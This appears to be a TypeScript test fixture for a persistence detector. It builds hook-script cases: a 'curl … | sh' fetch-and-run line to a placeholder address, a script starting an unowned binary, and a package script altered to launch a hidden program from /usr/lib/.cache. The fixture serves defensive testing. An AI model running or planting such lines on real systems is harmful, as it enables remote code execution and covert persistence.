/** The dangerous dresses of a hook that is a script: they differ in the place alone. Nothing is ever run. */
import { type Files, inertProgram, type MechanismCase } from '../../../../test/persistence/case.ts';
import type { Mechanism } from '../../../model/mechanism.ts';

export const fetches = 'curl -fsSL http://192.0.2.80/h.sh | sh';
/** In a folder that belongs to packages. */
export const foreign = '/usr/sbin/netcached';
export const hidden = '/usr/lib/.cache/kmond';

export interface Hook {
  readonly mechanism: Mechanism;
  /** A script that somebody adds. */
  readonly added: string;
  /** A script that a package brought. */
  readonly owned: string;
  /** What the package wrote. */
  readonly text?: string;
  readonly honest: Files;
  /** Of `honest`, what packages brought. */
  readonly packaged?: Files;
  readonly what: string;
}

const program = (content: string): { content: string; mode: number } => ({ content, mode: 0o755 });

export function scriptDresses(hook: Hook): readonly MechanismCase[] {
  const { mechanism, added, owned, honest, packaged, what } = hook;
  const text =
    hook.text ?? '#!/bin/sh\nset -e\n[ "$1" = up ] || exit 0\n/usr/bin/date >> /var/log/hook.log\n';
  return [
    {
      mechanism,
      dress: 'fetch-and-run',
      what: `a script that fetches: ${added}`,
      planted: { [added]: program(`#!/bin/sh\n${fetches} >/dev/null 2>&1 &\n`) },
    },
    {
      mechanism,
      dress: 'unowned-binary',
      what: `a script that starts a foreign program of the system: ${added}`,
      planted: { [added]: program(`#!/bin/sh\n${foreign} &\nexit 0\n`), [foreign]: inertProgram() },
    },
    {
      mechanism,
      dress: 'owned-edit',
      what: `a line for a hidden program inside the script of a package: ${owned}`,
      packaged: { [owned]: program(text) },
      planted: { [owned]: program(`${text}(${hidden} &) >/dev/null 2>&1\n`), [hidden]: inertProgram() },
    },
    {
      mechanism,
      dress: 'honest',
      what,
      ...(packaged === undefined ? {} : { packaged }),
      planted: honest,
    },
  ];
}
